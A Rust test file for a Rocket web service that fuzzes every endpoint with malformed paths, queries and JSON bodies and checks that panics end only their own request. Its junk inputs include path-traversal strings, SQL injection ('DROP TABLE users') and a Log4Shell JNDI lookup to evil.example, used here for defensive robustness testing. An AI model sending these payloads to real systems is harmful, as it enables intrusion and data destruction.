//! T36: junk is refused, and a panic ends a request, never the server.

use gatepost::store::StoreError;
use rocket::futures::future::join;
use rocket::http::Method;
use serde_json::{Map, Value, json};

use super::doors::FACES;
use crate::support::{Document, PASSWORD, TestApp, at_once, count};

const METHODS: [Method; 7] =
    [Method::Get, Method::Head, Method::Post, Method::Put, Method::Patch, Method::Delete, Method::Options];

/// What stands where a path expects an id or a token.
const JUNK_IDS: [&str; 16] = [
    "x",
    "0",
    "-1",
    "%00",
    "%ff%fe",
    "%c0%af",
    "..",
    "%2e%2e%2f",
    "%2f",
    "%E2%80%AE",
    "'%20OR%201=1--",
    "%7Bid%7D",
    "null",
    "00000000-0000-0000-0000-000000000000",
    "ffffffff-ffff-ffff-ffff-ffffffffffff",
    "current",
];

/// What stands where a query expects a number, a word or a cursor.
const JUNK_QUERIES: [&str; 12] = [
    "limit=0",
    "limit=-1",
    "limit=99999999999999999999",
    "limit=1e2",
    "limit=",
    "limit",
    "cursor=%00",
    "cursor=x",
    "state=%ff",
    "keep_current=maybe",
    "limit=1&limit=0",
    "&&==&%",
];

async fn paths(app: &TestApp) -> Vec<String> {
    let document = app.anonymous().send(Method::Get, "/openapi.json", None).await.expect(200);
    document.body["paths"].as_object().unwrap().keys().cloned().collect()
}

fn takes_body(method: Method) -> bool {
    matches!(method, Method::Post | Method::Put | Method::Patch)
}

/// Puts `value` where the path has parameters.
fn filled(path: &str, value: &str) -> String {
    let parts = path.split('/').map(|part| if part.starts_with('{') { value } else { part });
    parts.collect::<Vec<_>>().join("/")
}

fn junk_bodies() -> Vec<Vec<u8>> {
    let texts = [
        "",
        " ",
        "null",
        "true",
        "0",
        "-1e999999",
        "1e-999999",
        "\"x\"",
        "[]",
        "{}",
        "{",
        "}",
        "[",
        "{\"",
        "{]",
        "{\"a\":1,}",
        "// x",
        "NaN",
        "'x'",
        "{\"\":\"\"}",
        r#"{"email":"\ud800"}"#,
        r#"{"\ud800":1}"#,
        "{}{}",
        "<xml/>",
        "a=b&c=d",
        "\u{feff}{}",
        "--x\r\n\r\n--x--",
    ];
    let mut bodies: Vec<Vec<u8>> = texts.iter().map(|text| text.as_bytes().to_vec()).collect();
    bodies.push(vec![0xff, 0xfe, 0x00, 0x7b]);
    bodies.push(b"{\"email\":\"\xff\xfe\"}".to_vec());
    bodies.push(vec![b'['; 200_000]);
    bodies.push(vec![b' '; 300_000]);
    bodies.push(format!("{{\"email\":{}}}", "9".repeat(100_000)).into_bytes());
    bodies
}

/// Every member that any body has, each with the same junk.
fn junk_members(document: &Value) -> Vec<Vec<u8>> {
    let mut names: Vec<&String> = Vec::new();
    for schema in document["components"]["schemas"].as_object().unwrap().values() {
        names.extend(schema["properties"].as_object().into_iter().flat_map(Map::keys));
    }
    names.sort();
    names.dedup();
    let junk = [
        json!(null),
        json!(""),
        json!(" "),
        json!(0),
        json!(-1),
        json!(1e300),
        json!(u64::MAX),
        json!(true),
        json!([]),
        json!([[]]),
        json!([null]),
        json!({}),
        json!({"": {}}),
        json!("\u{0}"),
        json!("\u{202e}\u{feff}\u{fffd}"),
        json!("\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}".repeat(50)),
        json!("x".repeat(10_000)),
        json!("'; DROP TABLE users; --"),
        json!("${jndi:ldap://evil.example}"),
        json!("00000000-0000-0000-0000-000000000000"),
        json!("9999-99-99T99:99:99Z"),
        json!("@"),
        json!("@@@@@@@@"),
    ];
    // All at once, and each alone: what is missing else must not hide it.
    let all = junk.iter().map(|junk| {
        let members: Map<String, Value> = names.iter().map(|name| ((*name).clone(), junk.clone())).collect();
        Value::from(members)
    });
    let alone = junk.iter().flat_map(|junk| names.iter().map(move |name| json!({ name.as_str(): junk })));
    all.chain(alone).map(|body| body.to_string().into_bytes()).collect()
}

/// Broken: an id of a path was unwrapped; then, the limit of a page.
#[rocket::async_test]
async fn t36_junk_in_paths_and_queries_is_never_a_fault_of_ours() {
    let app = TestApp::start().await;
    app.founder("june@acme.example", "Acme").await;
    for path in paths(&app).await {
        // A call may end the session it was made by.
        let june = app.sign_in("june@acme.example").await;
        let long = "a".repeat(5_000);
        let ids = JUNK_IDS.into_iter().chain([june.org_id.as_str(), &june.id, &june.token, &long]);
        let urls = ids.map(|id| filled(&path, id));
        let urls = urls.chain(JUNK_QUERIES.map(|query| format!("{}?{query}", filled(&path, &june.org_id))));
        for url in urls {
            for method in METHODS {
                for api in [app.anonymous(), june.api(&app)] {
                    let body = takes_body(method).then(|| "{}".to_owned());
                    let answer = api.send(method, &url, body).await;
                    assert!(answer.status < 500, "{} for {method} {url}: {}", answer.status, answer.text);
                    if answer.status >= 400 && method != Method::Head {
                        assert_eq!(answer.header("content-type"), Some("application/problem+json"), "{url}");
                    }
                }
            }
        }
    }
    app.sign_in("june@acme.example").await;
}

/// Broken: the text of a body was unwrapped.
#[rocket::async_test]
async fn t36_junk_in_bodies_is_never_a_fault_of_ours() {
    let app = TestApp::start().await;
    let june = app.founder("june@acme.example", "Acme").await;
    let document = app.anonymous().send(Method::Get, "/openapi.json", None).await.expect(200).body;
    let bodies: Vec<Vec<u8>> = junk_bodies().into_iter().chain(junk_members(&document)).collect();
    let mut calls = 0;
    for (path, item) in document["paths"].as_object().unwrap() {
        for (method, operation) in item.as_object().unwrap() {
            if operation.get("requestBody").is_none() {
                continue;
            }
            calls += 1;
            let method: Method = method.parse().unwrap();
            let url = filled(path, &june.org_id);
            for body in &bodies {
                let answer = june.api(&app).send_bytes(method, &url, Some(body.clone())).await;
                let told = String::from_utf8_lossy(&body[..body.len().min(80)]).into_owned();
                assert!(answer.status < 500, "{} for {method} {url} {told}: {}", answer.status, answer.text);
            }
        }
    }
    assert!(calls > 8, "the document names the calls that take a body");
    june.api(&app).get("/sessions/current").await.expect(200);
}

/// To break it: unwrap what the body of a dialect's call says.
#[rocket::async_test]
async fn t36_junk_in_the_bodies_of_dialects_is_never_a_fault_of_ours() {
    for face in FACES.iter().filter(|face| face.document != "/openapi.json") {
        let app = TestApp::start().await;
        let june = app.founder("june@acme.example", "Acme").await;
        let document = Document::at(&app, face.document).await;
        let bodies: Vec<Vec<u8>> =
            junk_bodies().into_iter().chain(junk_members(document.as_json())).collect();
        let operations = document.operations();
        let calls = operations.iter().filter(|operation| !operation.described["requestBody"].is_null());
        for operation in calls {
            let url = operation.path_with(&june.id, &june.org_id);
            for body in &bodies {
                let answer = june.api(&app).send_bytes(operation.method, &url, Some(body.clone())).await;
                let told = String::from_utf8_lossy(&body[..body.len().min(80)]).into_owned();
                assert!(answer.status < 500, "{} {told}: {}", operation.name(), answer.text);
            }
        }
        app.anonymous().send(Method::Get, "/healthz", None).await.expect(200);
    }
}

#[rocket::get("/panic")]
fn panic_on_purpose() -> &'static str {
    panic!("on purpose, to see the server survive it")
}

/// Broken: the catcher panicked too, so that Rocket's own page was answered.
#[rocket::async_test]
async fn t36_a_panic_in_a_handler_ends_its_request_alone() {
    let app =
        TestApp::start_built(|_| {}, |rocket| rocket.mount("/api/v1", rocket::routes![panic_on_purpose]))
            .await;
    let june = app.founder("june@acme.example", "Acme").await;
    for _ in 0..3 {
        let (app, june) = (&app, &june);
        let answers = at_once(|n| async move {
            june.api(app).get(if n % 2 == 0 { "/panic" } else { "/sessions/current" }).await
        })
        .await;
        assert_eq!(count(&answers, 200), answers.len() / 2);
        for answer in answers.into_iter().step_by(2) {
            let refusal = answer.expect_refusal(500, "internal");
            assert!(!refusal.text.contains("purpose"), "{}", refusal.text);
        }
    }
}

/// Broken: units of work ran outside of `catch_unwind`, and the writer's thread ended with one.
#[rocket::async_test]
async fn t36_a_panic_in_a_unit_of_work_ends_that_unit_alone() {
    let app = TestApp::start().await;
    let june = app.founder("june@acme.example", "Acme").await;
    for round in 0..3 {
        let app = &app;
        let panics = async {
            for _ in 0..8 {
                let failed = app
                    .app
                    .store
                    .write(|_| -> Result<(), StoreError> {
                        panic!("on purpose, to see the writer survive it")
                    })
                    .await;
                assert!(failed.is_err());
                let failed = app
                    .app
                    .store
                    .read(|_| -> Result<(), StoreError> {
                        panic!("on purpose, to see the readers survive it")
                    })
                    .await;
                assert!(failed.is_err());
            }
        };
        let sign_ups = at_once(|n| async move {
            let email = format!("somebody{round}-{n}@mail.example");
            app.anonymous()
                .post("/sign-up", json!({"email": email, "password": PASSWORD, "name": "June"}))
                .await
        });
        let (sign_ups, ()) = join(sign_ups, panics).await;
        assert_eq!(count(&sign_ups, 201), sign_ups.len());
        assert_eq!(app.letters_to(&format!("somebody{round}-63@mail.example")).await.len(), 1);
    }
    june.api(&app).get("/sessions/current").await.expect(200);
}
